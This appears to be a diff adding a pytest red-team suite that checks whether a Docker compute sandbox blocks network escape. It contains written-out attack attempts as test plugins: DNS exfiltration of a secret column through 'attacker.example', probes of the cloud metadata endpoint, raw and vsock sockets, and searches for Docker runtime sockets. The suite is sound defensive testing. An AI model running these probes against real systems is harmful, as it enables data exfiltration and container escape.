@@ -1,0 +1,237 @@
+"""Network attacks from inside the compute phase (checklist A): every one meets `network_mode=none`.
+
+Each attack is a malicious preprocess plugin run in the real sandbox; each has a control that shows
+the same code path works where it is allowed (loopback inside the container, a host-side client).
+"""
+
+from __future__ import annotations
+
+import errno
+import secrets
+import socket
+import threading
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.redteam.conftest import Listener, host_addresses, preprocess, run_compute
+
+pytestmark = pytest.mark.docker
+
+
+def test_tcp_to_an_outside_address_is_unreachable(sandbox: Any, tmp_path: Path) -> None:
+    plugin = preprocess(tmp_path, "net-outside", '''
+        attempt("cloudflare", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3).close())
+        attempt("google_dns", lambda: socket.create_connection(("8.8.8.8", 53), timeout=3).close())
+        attempt("ipv6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=3).close())
+        # control: TCP itself works inside the container, on its own loopback
+        server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
+        attempt("own_loopback", lambda: socket.create_connection(server.getsockname(), timeout=3).close() or "ok")
+    ''')
+    out = run_compute(sandbox, plugin)
+    assert out.result and out.result["ok"], out.stderr
+    assert out.errno("cloudflare") == errno.ENETUNREACH
+    assert out.errno("google_dns") == errno.ENETUNREACH
+    assert out.errno("ipv6") in (errno.ENETUNREACH, errno.EADDRNOTAVAIL, errno.EAFNOSUPPORT)
+    assert out.ok("own_loopback") == "ok"
+
+
+def test_cloud_metadata_endpoint_is_unreachable(sandbox: Any, tmp_path: Path) -> None:
+    plugin = preprocess(tmp_path, "net-metadata", '''
+        attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), timeout=3).close())
+        attempt("metadata_udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
+            b"x", ("169.254.169.254", 80)))
+        attempt("control_udp_loopback", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
+            b"x", ("127.0.0.1", 9)))
+    ''')
+    out = run_compute(sandbox, plugin)
+    assert out.errno("metadata") == errno.ENETUNREACH
+    assert out.errno("metadata_udp") == errno.ENETUNREACH
+    assert out.ok("control_udp_loopback") == 1
+
+
+def test_host_listeners_on_loopback_bridge_and_primary_ip_get_zero_connections(
+        sandbox: Any, docker_client: Any, tmp_path: Path, listeners: list[Listener]) -> None:
+    marker = secrets.token_hex(8)
+    tcp = Listener("tcp", host="0.0.0.0")
+    listeners.append(tcp)
+    targets = host_addresses(docker_client)
+    plugin = preprocess(tmp_path, "net-host", f'''
+        for host in {targets!r}:
+            def hit(host=host):
+                s = socket.create_connection((host, {tcp.port}), timeout=3)
+                s.sendall(b"{marker}"); s.close()
+            attempt("tcp_" + host, hit)
+    ''')
+    out = run_compute(sandbox, plugin)
+    assert out.result and out.result["ok"], out.stderr
+    assert out.errno("tcp_127.0.0.1") == errno.ECONNREFUSED  # its own loopback, not the host's
+    for host in targets:
+        if host != "127.0.0.1":
+            assert out.errno("tcp_" + host) == errno.ENETUNREACH, host
+    time.sleep(0.5)
+    assert tcp.hits == []
+    # control: the listener does record a connection from the host itself
+    with socket.create_connection(("127.0.0.1", tcp.port), timeout=3) as s:
+        s.sendall(b"control-" + marker.encode())
+    assert _wait_for(lambda: tcp.received(b"control-" + marker.encode()))
+    assert tcp.received(marker.encode()) == tcp.received(b"control-" + marker.encode())
+
+
+def test_dns_lookup_fails_and_no_query_reaches_a_host_resolver(
+        sandbox: Any, docker_client: Any, tmp_path: Path, listeners: list[Listener]) -> None:
+    marker = secrets.token_hex(8)
+    dns = Listener("udp", port=53)
+    listeners.append(dns)
+    targets = [h for h in host_addresses(docker_client) if h != "127.0.0.1"]
+    plugin = preprocess(tmp_path, "net-dns", f'''
+        secret = str(df["secret"].iloc[0]).encode().hex()[:40]
+        attempt("tunnel", lambda: socket.getaddrinfo(secret + ".{marker}.attacker.example", 53))
+        attempt("localhost", lambda: socket.getaddrinfo("localhost", 80)[0][4][0])
+        for host in {targets!r}:
+            attempt("udp_" + host, lambda host=host: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
+                b"{marker}" + secret.encode(), (host, {dns.port})))
+    ''')
+    out = run_compute(sandbox, plugin)
+    assert out.obs["tunnel"]["type"] == "gaierror"
+    assert out.ok("localhost") in ("127.0.0.1", "::1")  # control: /etc/hosts works, the resolver does not
+    for host in targets:
+        assert out.errno("udp_" + host) == errno.ENETUNREACH
+    time.sleep(0.5)
+    assert dns.received(marker.encode()) == []
+    # control: a datagram from the host does arrive
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(b"control" + marker.encode(), ("127.0.0.1", dns.port))
+    assert _wait_for(lambda: dns.received(b"control" + marker.encode()))
+
+
+def test_only_the_loopback_interface_exists(sandbox: Any, tmp_path: Path) -> None:
+    plugin = preprocess(tmp_path, "net-interfaces", '''
+        attempt("interfaces", lambda: [name for _, name in socket.if_nameindex()])
+        attempt("routes", lambda: open("/proc/net/route").read().splitlines()[1:])
+        attempt("hostname", lambda: socket.gethostname())
+    ''')
+    out = run_compute(sandbox, plugin)
+    assert out.ok("interfaces") == ["lo"]
+    assert out.ok("routes") == []
+    assert out.ok("hostname") == "sandbox"  # not the host's name
+
+
+def test_raw_and_packet_sockets_are_refused(sandbox: Any, tmp_path: Path) -> None:
+    plugin = preprocess(tmp_path, "net-raw", '''
+        attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
+        attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
+        attempt("raw_tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
+        attempt("control_dgram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close() or "ok")
+    ''')
+    out = run_compute(sandbox, plugin)
+    for name in ("packet", "raw_icmp", "raw_tcp"):
+        assert out.errno(name) == errno.EPERM, name  # no CAP_NET_RAW
+    assert out.ok("control_dgram") == "ok"
+
+
+def _engine_major(docker_client: Any) -> int:
+    try:
+        return int(str(docker_client.version()["Version"]).split(".")[0])
+    except Exception:  # noqa: BLE001
+        return 0
+
+
+def _custom_seccomp() -> bool:
+    from cleanroom.runner.sandbox import container_config
+    from cleanroom.settings import Settings
+
+    opts = container_config(Settings(), "image", "compute", "job")["security_opt"]
+    return any(o.startswith("seccomp=") and "unconfined" not in o for o in opts)
+
+
+def test_vsock_sockets_are_refused(sandbox: Any, docker_client: Any, tmp_path: Path) -> None:
+    """AF_VSOCK is not confined by the network namespace: on a VM host it reaches the hypervisor.
+
+    Docker blocks it in its default seccomp profile since engine 23 (moby/moby#44562); older
+    engines do not, and the runner passes no seccomp profile of its own. Only the socket is made:
+    the attack never connects anywhere.
+    """
+    plugin = preprocess(tmp_path, "net-vsock", '''
+        attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).close() or "created")
+        attempt("control_unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close() or "created")
+    ''')
+    out = run_compute(sandbox, plugin)
+    assert out.ok("control_unix") == "created"
+    if out.obs["vsock"]["ok"] and _engine_major(docker_client) < 23 and not _custom_seccomp():
+        pytest.xfail("WEAKNESS (lead): engine < 23 and no seccomp profile of our own, so AF_VSOCK sockets "
+                     "can be made; ship a profile denying socket(AF_VSOCK) and io_uring_* (docs/security.md)")
+    assert out.errno("vsock") in (errno.EPERM, errno.EAFNOSUPPORT, errno.EACCES)
+    assert out.ok("control_unix") == "created"
+
+
+def test_abstract_unix_socket_cannot_rendezvous_with_a_concurrent_job(sandbox: Any, tmp_path: Path) -> None:
+    name = "cleanroom-rdv-" + secrets.token_hex(6)
+    # job A binds the abstract name, proves it can reach itself (control), then waits for a visitor
+    job_a = preprocess(tmp_path, "net-rdv-a", f'''
+        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        srv.bind("\\0{name}"); srv.listen(4); srv.settimeout(0.2)
+        attempt("self_connect", lambda: socket.socket(socket.AF_UNIX).connect("\\0{name}") or "ok")
+        visitors, deadline = [], time.time() + 8
+        while time.time() < deadline:
+            try:
+                conn, _ = srv.accept(); visitors.append(conn.recv(100).decode())
+            except OSError:
+                pass
+        OBS["visitors"] = {{"ok": True, "value": visitors}}
+    ''')
+    job_b = preprocess(tmp_path, "net-rdv-b", f'''
+        time.sleep(3)  # A listens by now
+        def visit():
+            s = socket.socket(socket.AF_UNIX); s.connect("\\0{name}"); s.sendall(b"visitor-b")
+        attempt("visit", visit)
+    ''')
+    results: dict[str, Any] = {}
+    thread = threading.Thread(target=lambda: results.update(a=run_compute(sandbox, job_a)))
+    thread.start()
+    time.sleep(1.0)
+    results["b"] = run_compute(sandbox, job_b)
+    thread.join(timeout=90)
+    assert results["a"].ok("self_connect") == "ok"
+    assert results["b"].errno("visit") == errno.ECONNREFUSED
+    assert results["a"].ok("visitors") == []
+
+
+def test_no_docker_or_containerd_socket_is_reachable(sandbox: Any, tmp_path: Path) -> None:
+    plugin = preprocess(tmp_path, "net-docker-sock", '''
+        import stat
+        for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
+                     "/var/run/crio/crio.sock", "/run/podman/podman.sock", "/run/user/0/docker.sock"):
+            attempt("sock_" + path, lambda path=path: socket.socket(socket.AF_UNIX).connect(path))
+        OBS["docker_host"] = {"ok": True, "value": os.environ.get("DOCKER_HOST")}
+        # control: a socket the plugin makes itself is found by the same search
+        own = socket.socket(socket.AF_UNIX); own.bind("/tmp/own.sock")
+        found = []
+        for root, dirs, files in os.walk("/", onerror=lambda e: None):
+            if root.startswith(("/proc", "/sys")):
+                dirs[:] = []
+                continue
+            for f in files:
+                try:
+                    if stat.S_ISSOCK(os.lstat(os.path.join(root, f)).st_mode):
+                        found.append(os.path.join(root, f))
+                except OSError:
+                    pass
+        OBS["sockets"] = {"ok": True, "value": sorted(found)}
+    ''')
+    out = run_compute(sandbox, plugin, timeout=120)
+    for key in [k for k in out.obs if k.startswith("sock_")]:
+        assert out.errno(key) in (errno.ENOENT, errno.EACCES), key
+    assert out.obs["docker_host"]["value"] is None
+    assert out.ok("sockets") == ["/tmp/own.sock"]
+
+
+def _wait_for(predicate: Any, timeout: float = 3.0) -> bool:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if predicate():
+            return True
+        time.sleep(0.05)
+    return False
